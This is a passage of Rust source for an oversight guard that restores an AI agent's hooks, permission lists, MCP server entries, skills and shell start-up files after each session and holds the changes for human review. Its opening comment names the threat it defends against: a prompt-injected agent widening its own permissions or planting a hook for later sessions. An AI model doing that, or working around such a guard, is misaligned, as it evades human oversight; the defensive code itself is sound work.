//! The agent's own settings that run code later, held for review: its hooks, MCP servers,
//! permission allow-lists, plugins, skills and shell start-up files in its home. The agent may
//! change them during the session (it sees its change, as in a staged grant); when it ends,
//! what changed is put back as it was and the agent's version waits in a stage of the session
//! for `ward review`, flagged as settings that run commands. So a prompt-injected agent cannot
//! widen its own permissions or plant a hook for its next session without a person seeing it.
//!
//! What is guarded ([`Spec`]): whole files (`.claude/settings.json`), keys of a JSON file the
//! agent also writes for its own bookkeeping (`.claude.json#/mcpServers`: other keys pass),
//! folders with everything in them (`.claude/skills/`), and every file in the home that a
//! guarded setting names (`~/.claude/hooks/check.sh` in a hook's command).
//!
//! What Ward last accepted is kept beside the home, out of the agent's reach
//! (`homes/NAME.guard`: one digest per entry, and a copy of every file to put back). At the
//! next start the home is compared with it again, so a change made while no session watched
//! (Ward killed, out of memory, a power cut) is put back and held too, not taken as the new
//! normal. The first session of a home takes what is there (nothing to compare with).
//!
//! The home is the agent's to shape: every entry is read and written below the home's
//! descriptor without following a link (`openat2(RESOLVE_BENEATH|RESOLVE_NO_SYMLINKS)`).

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::ffi::{CStr, CString};
use std::io::{Read, Write};
use std::os::fd::{AsFd, AsRawFd, FromRawFd, OwnedFd};
use std::path::{Path, PathBuf};

/// Files in every agent's home that run code in its later sessions, besides the shell start-up
/// files ([`ward_stage::classify::SHELL_RC`], the review's own list): git's, ssh's and npm's
/// settings (a hook, a `core.sshCommand`, a `ProxyCommand`, npm's `script-shell` or
/// `node-options`).
const ALSO: &[&str] = &[".gitconfig", ".config/git/config", ".ssh/config", ".npmrc"];

/// Every agent's guarded files, as paths below its home.
pub fn always() -> impl Iterator<Item = String> {
    ward_stage::classify::SHELL_RC
        .iter()
        .map(|n| match *n {
            "config.fish" => ".config/fish/config.fish".to_string(),
            n => n.to_string(),
        })
        .chain(ALSO.iter().map(|s| s.to_string()))
        // fish runs every file there at start.
        .chain(std::iter::once(".config/fish/conf.d/".to_string()))
}

/// A guarded folder holding more entries than this closes the session's start: Ward will not
/// guard part of it.
const MAX_ENTRIES: usize = 20_000;
/// Folders deeper than this below a guarded folder are not walked (the start refuses).
const MAX_DEPTH: usize = 32;
/// A guarded file larger than this is not read: it never counts as unchanged, cannot be put
/// back, and closes the home (fail closed). Settings and scripts are far smaller.
const LIMIT: u64 = 64 << 20;
/// At most this many files named by the guarded settings are guarded besides them; settings
/// naming more close the home.
const MAX_REFS: usize = 256;

/// One thing guarded in the home, as a profile or [`always`] names it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Spec {
    /// `rel`: a file (or a link) as a whole.
    File(String),
    /// `rel/`: a folder and everything in it.
    Tree(String),
    /// `rel#/a/*/b` (one or more): those keys of a JSON file; `*` is any key. The agent's other
    /// changes to the file pass.
    Keys(String, Vec<Vec<String>>),
}

impl Spec {
    /// The path below the home.
    pub fn rel(&self) -> &str {
        match self {
            Spec::File(r) | Spec::Tree(r) | Spec::Keys(r, _) => r,
        }
    }

    /// Whether `rel` is this spec's or inside it.
    fn covers(&self, rel: &str) -> bool {
        match self {
            Spec::Tree(r) => {
                rel == r
                    || rel
                        .strip_prefix(r.as_str())
                        .is_some_and(|t| t.starts_with('/'))
            }
            Spec::File(r) | Spec::Keys(r, _) => rel == r,
        }
    }
}

/// A path below the home that can be walked one plain component at a time.
fn plain(rel: &str) -> bool {
    !rel.is_empty()
        && rel.len() <= 1024
        && rel
            .split('/')
            .all(|c| !c.is_empty() && c != "." && c != ".." && !c.contains('\0'))
}

/// The specs of [`always`] and a profile's list, one per path (several `#` keys of one file
/// become one spec). Entries that are not plain paths are dropped (profiles are Ward's own).
pub fn specs(profile: &[String]) -> Vec<Spec> {
    let mut out: Vec<Spec> = Vec::new();
    for s in always().chain(profile.iter().cloned()) {
        let spec = if let Some((rel, ptr)) = s.split_once('#') {
            let pat: Vec<String> = ptr
                .strip_prefix('/')
                .unwrap_or(ptr)
                .split('/')
                .map(str::to_string)
                .collect();
            Spec::Keys(rel.to_string(), vec![pat])
        } else if let Some(rel) = s.strip_suffix('/') {
            Spec::Tree(rel.to_string())
        } else {
            Spec::File(s)
        };
        if !plain(spec.rel()) {
            continue;
        }
        match (out.iter_mut().find(|o| o.rel() == spec.rel()), spec) {
            (Some(Spec::Keys(_, pats)), Spec::Keys(_, more)) => pats.extend(more),
            // The whole file or folder is stronger than some of its keys.
            (Some(o @ Spec::Keys(..)), spec) => *o = spec,
            (Some(_), _) => {}
            (None, spec) => out.push(spec),
        }
    }
    out
}

/// What a guarded entry is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
enum Kind {
    Missing,
    File,
    Link,
    Dir,
    /// Something unreadable, a link on the way, a device: never equal to anything, so a change
    /// cannot hide behind it.
    Other,
}

/// A guarded entry as Ward saw it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Seen {
    kind: Kind,
    /// A file's SHA-256, hex.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    sha: String,
    /// A link's target.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    target: Vec<u8>,
    /// A file's device, inode, size and change time (seconds, nanoseconds): the same five mean
    /// the same contents, as only the kernel sets a change time. Saves reading it again.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    stamp: Option<[u64; 6]>,
}

impl Seen {
    fn of(kind: Kind) -> Seen {
        Seen {
            kind,
            sha: String::new(),
            target: Vec::new(),
            stamp: None,
        }
    }

    fn same(&self, other: &Seen) -> bool {
        self.kind != Kind::Other
            && self.kind == other.kind
            && self.sha == other.sha
            && self.target == other.target
    }
}

/// What Ward last accepted in a home: `homes/NAME.guard/seen.json`.
#[derive(Serialize, Deserialize)]
struct Baseline {
    version: u32,
    entries: BTreeMap<String, Seen>,
    /// What is guarded (as a profile names it), the home's path inside and the grants below
    /// it: what `ward review` needs to accept a change the way a session would check it.
    #[serde(default)]
    guard: Vec<String>,
    #[serde(default)]
    inside: PathBuf,
    #[serde(default)]
    grants: Vec<String>,
}

impl crate::state::Versioned for Baseline {
    fn version(&self) -> u32 {
        self.version
    }
}

/// What a home's guard works from.
#[derive(Clone)]
struct Ctx {
    specs: Vec<Spec>,
    /// The profile's list, as given.
    guard: Vec<String>,
    /// The home's path inside.
    inside: PathBuf,
    /// Grants mounted below the home (paths below it): the person's, not guarded.
    grants: Vec<String>,
}

impl Ctx {
    fn new(guard: &[String], inside: &Path, grants: &[String]) -> Ctx {
        let mut ctx = Ctx {
            specs: specs(guard),
            guard: guard.to_vec(),
            inside: inside.to_path_buf(),
            grants: grants.to_vec(),
        };
        let specs = std::mem::take(&mut ctx.specs);
        ctx.specs = specs
            .into_iter()
            .filter(|s| !ctx.granted(s.rel()))
            .collect();
        ctx
    }

    fn granted(&self, rel: &str) -> bool {
        self.grants.iter().any(|g| {
            rel == g
                || rel
                    .strip_prefix(g.as_str())
                    .is_some_and(|t| t.starts_with('/'))
        })
    }

    /// Whether a spec (not only a file a setting names) covers `rel`.
    fn covered(&self, rel: &str) -> bool {
        self.specs.iter().any(|s| s.covers(rel))
    }
}

/// The guarded entries of a home as the session started.
pub struct Snapshot {
    home: PathBuf,
    store: PathBuf,
    ctx: Ctx,
    seen: BTreeMap<String, Seen>,
    /// The start wrote the baseline (not yet durable: the end makes it so).
    saved: bool,
    /// Changes made while no session watched, found and put back at the start.
    pub at_start: Vec<Held>,
}

/// Something changed while no session watched could not be put back: the home must be closed
/// until a person looks.
#[derive(Debug)]
pub struct NotPutBack(pub String);

impl std::fmt::Display for NotPutBack {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for NotPutBack {}

/// One guarded thing the agent changed, held.
#[derive(Debug, Clone)]
pub struct Held {
    /// The file or folder (below the home) as guarded.
    pub rel: String,
    /// What Ward did with the agent's version.
    pub what: String,
    /// Put back as it was (else the agent's version is still in the home).
    pub restored: bool,
}

fn beneath(home: &Path) -> std::io::Result<OwnedFd> {
    let c = CString::new(home.as_os_str().as_encoded_bytes())?;
    // SAFETY: a NUL-terminated absolute path; the descriptor is owned at once.
    let fd = unsafe {
        libc::open(
            c.as_ptr(),
            libc::O_DIRECTORY | libc::O_RDONLY | libc::O_NOFOLLOW | libc::O_CLOEXEC,
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: the descriptor just returned, ours alone.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

const NO_LINKS: u64 = libc::RESOLVE_BENEATH | libc::RESOLVE_NO_SYMLINKS;

/// `rel` below `dir` opened with `flags`, no link followed.
fn open_at(dir: &OwnedFd, rel: &str, flags: i32) -> std::io::Result<OwnedFd> {
    ward_sys::openat2(dir.as_fd(), &CString::new(rel)?, flags, NO_LINKS)
}

/// The folder `rel` lies in (opened, without following a link) and its last name; `None`
/// when a folder on the way is missing; an error when one is a link or not a folder.
fn parent(dir: &OwnedFd, rel: &str) -> std::io::Result<Option<(OwnedFd, CString)>> {
    let (p, name) = rel.rsplit_once('/').unwrap_or((".", rel));
    match open_at(dir, p, libc::O_PATH | libc::O_DIRECTORY) {
        Ok(fd) => Ok(Some((fd, CString::new(name)?))),
        // Nothing there. A link or a file on the way (ELOOP, ENOTDIR) is not "missing": it is
        // something the agent put there, seen as `Other`, so never unchanged.
        Err(e) if e.raw_os_error() == Some(libc::ENOENT) => Ok(None),
        Err(e) => Err(e),
    }
}

fn stamp(st: &libc::stat) -> [u64; 6] {
    [
        st.st_dev,
        st.st_ino,
        st.st_size as u64,
        st.st_ctime as u64,
        st.st_ctime_nsec as u64,
        u64::from(st.st_mode),
    ]
}

fn sha_of(r: &mut impl Read) -> std::io::Result<String> {
    use sha2::{Digest, Sha256};
    let mut h = Sha256::new();
    std::io::copy(r, &mut h)?;
    Ok(format!("{:x}", h.finalize()))
}

/// `rel` now; `known` (what Ward saw before) is taken as it is when the file's stamp is the
/// same.
fn look(dir: &OwnedFd, rel: &str, known: Option<&Seen>) -> Seen {
    let (pfd, name) = match parent(dir, rel) {
        Ok(Some(p)) => p,
        Ok(None) => return Seen::of(Kind::Missing),
        Err(_) => return Seen::of(Kind::Other),
    };
    // SAFETY: plain data, filled by fstatat.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: a directory descriptor we hold, a NUL-terminated name, a stat buffer.
    if unsafe {
        libc::fstatat(
            pfd.as_raw_fd(),
            name.as_ptr(),
            &mut st,
            libc::AT_SYMLINK_NOFOLLOW,
        )
    } != 0
    {
        return match std::io::Error::last_os_error().raw_os_error() {
            Some(libc::ENOENT) => Seen::of(Kind::Missing),
            _ => Seen::of(Kind::Other),
        };
    }
    match st.st_mode & libc::S_IFMT {
        libc::S_IFDIR => Seen::of(Kind::Dir),
        libc::S_IFLNK => {
            let mut target = vec![0u8; 4096];
            // SAFETY: readlinkat into a buffer of the length passed.
            let r = unsafe {
                libc::readlinkat(
                    pfd.as_raw_fd(),
                    name.as_ptr(),
                    target.as_mut_ptr() as *mut libc::c_char,
                    target.len(),
                )
            };
            if r < 0 {
                return Seen::of(Kind::Other);
            }
            target.truncate(r as usize);
            Seen {
                target,
                ..Seen::of(Kind::Link)
            }
        }
        libc::S_IFREG => {
            if let Some(k) = known.filter(|k| k.kind == Kind::File && k.stamp == Some(stamp(&st))) {
                return k.clone();
            }
            if st.st_size as u64 > LIMIT {
                return Seen::of(Kind::Other);
            }
            let opened = ward_sys::openat2(
                pfd.as_fd(),
                &name,
                libc::O_RDONLY | libc::O_NOFOLLOW | libc::O_NONBLOCK,
                NO_LINKS,
            );
            let Ok(fd) = opened else {
                return Seen::of(Kind::Other);
            };
            let mut f = std::fs::File::from(fd);
            // The stamp of what is read, taken from the open file.
            // SAFETY: as above, on the open descriptor.
            let mut st: libc::stat = unsafe { std::mem::zeroed() };
            // SAFETY: fstat of a descriptor we hold.
            if unsafe { libc::fstat(f.as_raw_fd(), &mut st) } != 0 {
                return Seen::of(Kind::Other);
            }
            if st.st_size as u64 > LIMIT {
                return Seen::of(Kind::Other);
            }
            match sha_of(&mut (&mut f).take(LIMIT)) {
                Ok(sha) => Seen {
                    sha,
                    stamp: Some(stamp(&st)),
                    ..Seen::of(Kind::File)
                },
                Err(_) => Seen::of(Kind::Other),
            }
        }
        _ => Seen::of(Kind::Other),
    }
}

/// The bytes of the file `rel` (up to `limit`), without following a link.
fn contents(dir: &OwnedFd, rel: &str, limit: u64) -> std::io::Result<Vec<u8>> {
    let f = std::fs::File::from(open_at(
        dir,
        rel,
        libc::O_RDONLY | libc::O_NOFOLLOW | libc::O_NONBLOCK,
    )?);
    let mut v = Vec::new();
    f.take(limit).read_to_end(&mut v)?;
    Ok(v)
}

/// The names in the folder `rel`.
fn names(dir: &OwnedFd, rel: &str) -> std::io::Result<Vec<String>> {
    let fd = open_at(
        dir,
        rel,
        libc::O_RDONLY | libc::O_DIRECTORY | libc::O_NOFOLLOW,
    )?;
    let mut out = Vec::new();
    for e in std::fs::read_dir(format!("/proc/self/fd/{}", fd.as_raw_fd()))? {
        let e = e?;
        if out.len() >= MAX_ENTRIES {
            return Err(std::io::Error::other(format!(
                "more than {MAX_ENTRIES} entries"
            )));
        }
        // A name that is not UTF-8 cannot be kept in the baseline: it makes the folder
        // unreadable to the guard, which fails closed.
        match e.file_name().into_string() {
            Ok(n) => out.push(n),
            Err(_) => {
                return Err(std::io::Error::new(
                    std::io::ErrorKind::InvalidData,
                    "a name that is not UTF-8",
                ))
            }
        }
    }
    out.sort();
    Ok(out)
}

/// Every guarded entry of the home now: the specs (a folder with all it holds), the files they
/// name (`extra`), and what Ward saw before (`known`, so an entry that vanished is seen
/// missing). Err when a guarded folder is too large or deep to guard whole.
fn survey(
    dir: &OwnedFd,
    ctx: &Ctx,
    extra: &[String],
    known: &BTreeMap<String, Seen>,
) -> Result<BTreeMap<String, Seen>, String> {
    let mut out = BTreeMap::new();
    for s in &ctx.specs {
        let rel = s.rel();
        let seen = look(dir, rel, known.get(rel));
        let is_dir = seen.kind == Kind::Dir;
        out.insert(rel.to_string(), seen);
        if let (Spec::Tree(_), true) = (s, is_dir) {
            walk(dir, ctx, rel, 0, known, &mut out)?;
        }
    }
    // A grant mounted in the home is the person's (and its mount point is Ward's), whatever
    // was guarded there before.
    for rel in extra.iter().chain(known.keys()) {
        if !out.contains_key(rel) && !ctx.granted(rel) {
            out.insert(rel.clone(), look(dir, rel, known.get(rel)));
        }
    }
    Ok(out)
}

fn walk(
    dir: &OwnedFd,
    ctx: &Ctx,
    rel: &str,
    depth: usize,
    known: &BTreeMap<String, Seen>,
    out: &mut BTreeMap<String, Seen>,
) -> Result<(), String> {
    if depth > MAX_DEPTH {
        return Err(format!("~/{rel} is nested deeper than {MAX_DEPTH} folders"));
    }
    let list = names(dir, rel).map_err(|e| format!("~/{rel} cannot be read ({e})"))?;
    for n in list {
        if out.len() >= MAX_ENTRIES {
            return Err(format!("~/{rel} holds more than {MAX_ENTRIES} entries"));
        }
        let child = format!("{rel}/{n}");
        if ctx.granted(&child) {
            continue;
        }
        let seen = look(dir, &child, known.get(&child));
        let is_dir = seen.kind == Kind::Dir;
        out.insert(child.clone(), seen);
        if is_dir {
            walk(dir, ctx, &child, depth + 1, known, out)?;
        }
    }
    Ok(())
}

/// Files below the home that `text` names (`~/x`, `$HOME/x`, `${HOME}/x`, or the home's path
/// inside): the scripts a hook or an MCP server runs.
fn named(text: &[u8], inside: &Path) -> Vec<String> {
    let inside = format!("{}/", inside.display());
    let prefixes: [&[u8]; 4] = [b"~/", b"$HOME/", b"${HOME}/", inside.as_bytes()];
    let path_byte = |b: u8| b.is_ascii_alphanumeric() || b"._-+@,=/".contains(&b);
    let mut out: Vec<String> = Vec::new();
    for i in 0..text.len() {
        if i > 0 && (path_byte(text[i - 1]) || text[i - 1] == b'~' || text[i - 1] == b'$') {
            continue;
        }
        for p in prefixes {
            if !text[i..].starts_with(p) {
                continue;
            }
            let rest = &text[i + p.len()..];
            let end = rest
                .iter()
                .position(|b| !path_byte(*b))
                .unwrap_or(rest.len());
            let rel = String::from_utf8_lossy(&rest[..end]);
            let rel = rel.trim_end_matches(['/', '.', ',']);
            if plain(rel) && !out.iter().any(|o| o == rel) {
                out.push(rel.to_string());
            }
        }
    }
    out
}

/// One pattern's matches in `v`: path of keys -> value.
fn pick(
    v: &serde_json::Value,
    pat: &[String],
    at: &mut Vec<String>,
    out: &mut BTreeMap<Vec<String>, serde_json::Value>,
) {
    let Some((first, rest)) = pat.split_first() else {
        out.insert(at.clone(), v.clone());
        return;
    };
    let Some(obj) = v.as_object() else {
        return;
    };
    for (k, child) in obj {
        if first == "*" || first == k {
            at.push(k.clone());
            pick(child, rest, at, out);
            at.pop();
        }
    }
}

/// The guarded keys of a JSON file that say something (an empty list or object, `false`,
/// `null` or `""` grants nothing, and the agent writes such defaults for its own bookkeeping):
/// `None` when it is not a JSON object.
fn keyed(bytes: &[u8], pats: &[Vec<String>]) -> Option<BTreeMap<Vec<String>, serde_json::Value>> {
    use serde_json::Value;
    let v: Value = serde_json::from_slice(bytes).ok()?;
    v.is_object().then_some(())?;
    let mut out = BTreeMap::new();
    for p in pats {
        pick(&v, p, &mut Vec::new(), &mut out);
    }
    out.retain(|_, v| match v {
        Value::Null | Value::Bool(false) => false,
        Value::Array(a) => !a.is_empty(),
        Value::Object(o) => !o.is_empty(),
        Value::String(s) => !s.is_empty(),
        _ => true,
    });
    Some(out)
}

/// `now` with its guarded keys as they were (`was`): the agent's other changes kept.
fn unkey(
    now: &[u8],
    now_keys: &BTreeMap<Vec<String>, serde_json::Value>,
    was_keys: &BTreeMap<Vec<String>, serde_json::Value>,
) -> Option<Vec<u8>> {
    let mut v: serde_json::Value = serde_json::from_slice(now).ok()?;
    for path in now_keys.keys() {
        let (last, up) = path.split_last()?;
        let mut cur = &mut v;
        for k in up {
            cur = cur.get_mut(k)?;
        }
        cur.as_object_mut()?.remove(last);
    }
    for (path, val) in was_keys {
        let (last, up) = path.split_last()?;
        let mut cur = &mut v;
        for k in up {
            let obj = cur.as_object_mut()?;
            cur = obj
                .entry(k.clone())
                .or_insert_with(|| serde_json::Value::Object(Default::default()));
        }
        cur.as_object_mut()?.insert(last.clone(), val.clone());
    }
    let mut out = serde_json::to_vec_pretty(&v).ok()?;
    out.push(b'\n');
    Some(out)
}

/// Where a home's baseline and copies are kept.
fn blob(store: &Path, sha: &str) -> PathBuf {
    store.join("blobs").join(sha)
}

/// A kept copy, checked against its digest.
fn read_blob(store: &Path, sha: &str) -> std::io::Result<Vec<u8>> {
    let bytes = std::fs::read(blob(store, sha))?;
    if sha_of(&mut bytes.as_slice())? != sha {
        return Err(std::io::Error::other("Ward's copy of it is damaged"));
    }
    Ok(bytes)
}

/// Keep a copy of the file `rel` (seen as `s`) beside the home, unless one is there. The copy
/// is checked against the digest: what is kept is what was compared. Made durable at once
/// (copies are written only for new contents, and one that exists is never written again).
fn keep(dir: &OwnedFd, store: &Path, rel: &str, s: &Seen) -> std::io::Result<()> {
    if s.kind != Kind::File {
        return Ok(());
    }
    let dst = blob(store, &s.sha);
    if dst.exists() {
        return Ok(());
    }
    let bytes = contents(dir, rel, LIMIT + 1)?;
    if sha_of(&mut bytes.as_slice())? != s.sha {
        return Err(std::io::Error::other(format!(
            "~/{rel} changed while Ward read it"
        )));
    }
    std::fs::create_dir_all(store.join("blobs"))?;
    let tmp = dst.with_extension("tmp");
    let mut f = std::fs::File::create(&tmp)?;
    f.write_all(&bytes)?;
    f.sync_all()?;
    std::fs::rename(&tmp, &dst)?;
    std::fs::File::open(store.join("blobs")).and_then(|d| d.sync_all())
}

/// Write what Ward accepts now as the home's baseline, with a copy of every file in it, and
/// drop copies no longer needed. `sync`: made durable (at the end; at the start the baseline
/// only has to outlive Ward, not the machine).
fn save(
    dir: &OwnedFd,
    store: &Path,
    ctx: &Ctx,
    seen: &BTreeMap<String, Seen>,
    sync: bool,
) -> anyhow::Result<()> {
    std::fs::create_dir_all(store)?;
    for (rel, s) in seen {
        keep(dir, store, rel, s)?;
    }
    let b = Baseline {
        version: crate::state::VERSION,
        entries: seen.clone(),
        guard: ctx.guard.clone(),
        inside: ctx.inside.clone(),
        grants: ctx.grants.clone(),
    };
    let path = store.join("seen.json");
    if sync {
        crate::state::write(&path, &b)?;
    } else {
        let tmp = path.with_extension("tmp");
        std::fs::write(&tmp, serde_json::to_vec(&b)?)?;
        std::fs::rename(&tmp, &path)?;
    }
    let used: std::collections::HashSet<&str> = seen.values().map(|s| s.sha.as_str()).collect();
    if let Ok(rd) = std::fs::read_dir(store.join("blobs")) {
        for e in rd.flatten() {
            if !e.file_name().to_str().is_some_and(|n| used.contains(n)) {
                let _ = std::fs::remove_file(e.path());
            }
        }
    }
    Ok(())
}

/// A SHA-256 in hex: what a copy's name may be.
fn is_sha(s: &str) -> bool {
    s.len() == 64
        && s.bytes()
            .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
}

fn load(store: &Path) -> anyhow::Result<Option<Baseline>> {
    let path = store.join("seen.json");
    match crate::state::read::<Baseline>(&path) {
        Ok(b) => {
            if let Some((rel, _)) = b
                .entries
                .iter()
                .find(|(rel, s)| !plain(rel) || (s.kind == Kind::File && !is_sha(&s.sha)))
            {
                anyhow::bail!(
                    "{} is damaged (its entry {rel:?}); remove the folder {} to start the agent's \
                     settings afresh",
                    path.display(),
                    store.display()
                );
            }
            Ok(Some(b))
        }
        Err(e)
            if e.downcast_ref::<std::io::Error>()
                .is_some_and(|e| e.kind() == std::io::ErrorKind::NotFound) =>
        {
            Ok(None)
        }
        Err(e) => Err(e),
    }
}

/// Take the home's guarded entries at the start of a session: compare them with what Ward last
/// accepted (changes made while no session watched are put back and their versions copied to
/// `upper` for review, in [`Snapshot::at_start`]), and keep the result as the baseline.
/// `grants`: grants mounted below the home (paths below it), the person's, left out.
/// Err: the home cannot be guarded, or something changed meanwhile could not be put back (the
/// session must not start; the baseline is left as it was).
pub fn snapshot(
    home: &Path,
    inside: &Path,
    store: &Path,
    profile: &[String],
    grants: &[String],
    upper: &Path,
) -> anyhow::Result<Snapshot> {
    let dir = beneath(home).map_err(|e| {
        anyhow::anyhow!("the agent's home {} cannot be opened: {e}", home.display())
    })?;
    let ctx = Ctx::new(profile, inside, grants);
    let base = load(store)?.map(|b| b.entries);
    let known = base.clone().unwrap_or_default();
    let mut now = survey(&dir, &ctx, &[], &known).map_err(anyhow::Error::msg)?;
    // The files the settings name, in the settings as they are and as Ward last accepted them
    // (a file named only by a setting changed meanwhile is new, so held).
    let mut extra = referenced(&dir, &ctx, &now, None).map_err(anyhow::Error::msg)?;
    if let Some(base) = &base {
        // Only settings that changed since can name something the ones there now do not
        // (the unchanged ones' kept copies need not be read).
        let changed: BTreeMap<String, Seen> = base
            .iter()
            .filter(|(rel, was)| now.get(*rel) != Some(*was))
            .map(|(rel, was)| (rel.clone(), was.clone()))
            .collect();
        for r in referenced(&dir, &ctx, &changed, Some(store)).map_err(anyhow::Error::msg)? {
            if !extra.contains(&r) {
                extra.push(r);
            }
        }
    }
    for r in &extra {
        if !now.contains_key(r) && !ctx.granted(r) {
            let seen = look(&dir, r, known.get(r));
            now.insert(r.clone(), seen);
        }
    }
    let mut at_start = Vec::new();
    if let Some(base) = &base {
        at_start = settle(&dir, store, &ctx, base, &now, upper);
        if let Some(h) = at_start.iter().find(|h| !h.restored) {
            return Err(NotPutBack(format!(
                "~/{} changed while no Ward session watched it and could not be put back ({})",
                ward_core::inert::line(&h.rel),
                h.what
            ))
            .into());
        }
        if !at_start.is_empty() {
            now = survey(&dir, &ctx, &extra, &known).map_err(anyhow::Error::msg)?;
        }
    }
    let saved = base.as_ref() != Some(&now);
    if saved {
        save(&dir, store, &ctx, &now, false)?;
    }
    Ok(Snapshot {
        home: home.to_path_buf(),
        store: store.to_path_buf(),
        ctx,
        seen: now,
        saved,
        at_start,
    })
}

/// The files below the home that the guarded settings in `seen` name (whole files and the
/// guarded keys of keyed ones; not what guarded folders hold), and what guarded links point
/// to there; not guarded already. Read from the home, or from Ward's copies (`kept`). Err when
/// they name more than [`MAX_REFS`].
fn referenced(
    dir: &OwnedFd,
    ctx: &Ctx,
    seen: &BTreeMap<String, Seen>,
    kept: Option<&Path>,
) -> Result<Vec<String>, String> {
    let mut found: Vec<String> = Vec::new();
    for spec in ctx.specs.iter().filter(|s| !matches!(s, Spec::Tree(_))) {
        let rel = spec.rel();
        let Some(s) = seen.get(rel).filter(|s| s.kind == Kind::File) else {
            continue;
        };
        let text = match kept {
            Some(store) => read_blob(store, &s.sha),
            None => contents(dir, rel, LIMIT),
        };
        let Ok(text) = text else {
            continue;
        };
        let text = match spec {
            // Only what the guarded keys hold: the agent's bookkeeping cannot crowd them out.
            Spec::Keys(_, pats) => keyed(&text, pats)
                .map(|k| serde_json::to_vec(&k.values().collect::<Vec<_>>()).unwrap_or_default())
                .unwrap_or_default(),
            _ => text,
        };
        found.extend(named(&text, &ctx.inside));
    }
    // A guarded link's target in the home is what runs.
    for (rel, s) in seen.iter().filter(|(_, s)| s.kind == Kind::Link) {
        if let Some(t) = link_target(rel, &s.target, &ctx.inside) {
            found.push(t);
        }
    }
    let mut out: Vec<String> = Vec::new();
    for r in found {
        if !ctx.covered(&r) && !ctx.granted(&r) && !out.contains(&r) {
            out.push(r);
        }
    }
    if out.len() > MAX_REFS {
        return Err(format!(
            "the agent's guarded settings name more than {MAX_REFS} files in its home"
        ));
    }
    Ok(out)
}

/// Where the link `rel` (target `target`) points below the home, as a path below it.
fn link_target(rel: &str, target: &[u8], inside: &Path) -> Option<String> {
    let t = std::str::from_utf8(target).ok()?;
    let start = match t.strip_prefix(&format!("{}/", inside.display())) {
        Some(r) => r.to_string(),
        None if !t.starts_with('/') => match rel.rsplit_once('/') {
            Some((p, _)) => format!("{p}/{t}"),
            None => t.to_string(),
        },
        None => return None,
    };
    let mut parts: Vec<&str> = Vec::new();
    for c in start.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            c => parts.push(c),
        }
    }
    let out = parts.join("/");
    plain(&out).then_some(out)
}

/// Put back what changed from `base` to `now` and copy the changed versions to `upper`.
/// Returns what was held, one line per guarded file or folder.
fn settle(
    dir: &OwnedFd,
    store: &Path,
    ctx: &Ctx,
    base: &BTreeMap<String, Seen>,
    now: &BTreeMap<String, Seen>,
    upper: &Path,
) -> Vec<Held> {
    let specs = &ctx.specs;
    let missing = Seen::of(Kind::Missing);
    // The guarded folder an entry is in, when Ward saw that folder before: a new entry there
    // was missing then.
    let tree_of = |rel: &str| {
        specs
            .iter()
            .find(|s| matches!(s, Spec::Tree(_)) && s.covers(rel))
            .map(|s| s.rel().to_string())
    };
    let mut changed: Vec<(String, Seen, Seen, Option<Vec<u8>>)> = Vec::new();
    let rels: std::collections::BTreeSet<&String> = base.keys().chain(now.keys()).collect();
    for rel in rels {
        if ctx.granted(rel) {
            continue;
        }
        let was = match base.get(rel) {
            Some(w) => w,
            None if tree_of(rel).is_some_and(|t| base.contains_key(&t)) => &missing,
            // A file a setting names that Ward has not seen is new.
            None if !ctx.covered(rel) => &missing,
            // A guarded path Ward never saw (its guard is new): the first look takes it.
            None => continue,
        };
        let cur = now.get(rel).unwrap_or(&missing);
        if cur.same(was) {
            continue;
        }
        // Some keys of a JSON file: the agent's own bookkeeping passes; its guarded keys are
        // put back into its version.
        let mut put = None;
        if let Some(Spec::Keys(_, pats)) = specs.iter().find(|s| s.rel() == rel) {
            if cur.kind == Kind::File && matches!(was.kind, Kind::File | Kind::Missing) {
                let old = match was.kind {
                    Kind::File => read_blob(store, &was.sha).ok(),
                    _ => Some(Vec::new()),
                };
                let new = contents(dir, rel, LIMIT + 1).ok();
                if let (Some(old), Some(new)) = (old, new) {
                    let old_keys = keyed(&old, pats).unwrap_or_default();
                    match keyed(&new, pats) {
                        Some(k) if k == old_keys => continue,
                        Some(k) => put = unkey(&new, &k, &old_keys),
                        None => {}
                    }
                }
            }
        }
        changed.push((rel.clone(), was.clone(), cur.clone(), put));
    }
    if changed.is_empty() {
        return Vec::new();
    }
    // The agent's versions, for review (files; a link's target is never followed). One that
    // cannot be copied is left where it is (nothing is lost unseen), which closes the home.
    let mut copied = std::collections::BTreeSet::new();
    let mut failed = std::collections::BTreeSet::new();
    for (rel, _, cur, _) in &changed {
        if cur.kind == Kind::File {
            if copy_out(dir, rel, &upper.join(rel)).is_ok() {
                copied.insert(rel.clone());
            } else {
                failed.insert(rel.clone());
            }
        }
    }
    // What the agent made where something else was (or nothing): removed, deepest first.
    let mut order: Vec<&(String, Seen, Seen, Option<Vec<u8>>)> = changed.iter().collect();
    order.sort_by_key(|(rel, ..)| std::cmp::Reverse(rel.matches('/').count()));
    for (rel, was, cur, _) in &order {
        let replace =
            cur.kind != Kind::Missing && (cur.kind != was.kind || cur.kind == Kind::Other);
        if replace && !failed.contains(rel) && remove(dir, rel).is_err() {
            failed.insert(rel.clone());
        }
    }
    // What was there: put back, shallowest first.
    order.reverse();
    for (rel, was, _, put) in order {
        if failed.contains(rel) {
            continue;
        }
        let r = match (was.kind, put) {
            (_, Some(bytes)) => put_file(dir, rel, bytes),
            (Kind::Missing, None) => Ok(()),
            (Kind::Dir, None) => put_dir(dir, rel),
            (Kind::Link, None) => put_link(dir, rel, &was.target),
            (Kind::File, None) => {
                read_blob(store, &was.sha).and_then(|bytes| put_file(dir, rel, &bytes))
            }
            (Kind::Other, None) => Err(std::io::ErrorKind::Unsupported.into()),
        };
        if r.is_err() {
            failed.insert(rel.clone());
        }
    }
